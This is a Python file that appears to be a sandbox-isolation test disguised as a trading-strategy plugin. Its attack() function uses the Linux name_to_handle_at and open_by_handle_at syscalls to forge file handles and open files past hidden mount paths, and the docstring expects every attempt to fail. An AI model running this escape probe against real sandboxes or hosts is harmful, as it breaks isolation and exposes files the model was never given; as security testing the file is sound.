"""Opens files by handle, past every path that is hidden.

Must get neither a handle nor a file. Control: works. Ends: ok."""

import ctypes
import os

import numpy as np
import pandas as pd

def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + b"\0" * 132, 136)
    mount = ctypes.c_int()
    doors = []
    for place in (b"/", b"/system", b"/scratch", b".", os.fsencode(np.__file__)):
        if libc.syscall(303, -100, place, handle, ctypes.byref(mount), 0) >= 0:
            doors.append(place)
    root = os.open(".", os.O_RDONLY)
    for inode in (2, 128, 256):
        handle[0:16] = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(8, "little")
        doors += [inode] if libc.syscall(304, root, handle, os.O_RDONLY) >= 0 else []
    print(doors)
    return doors


def decide(bars):
    try:
        out = bool(attack())
    except BaseException as error:
        print("stopped:", type(error).__name__, str(error)[:200])
        out = False
    return pd.DataFrame({"enter_long": float(out)}, index=bars.index)
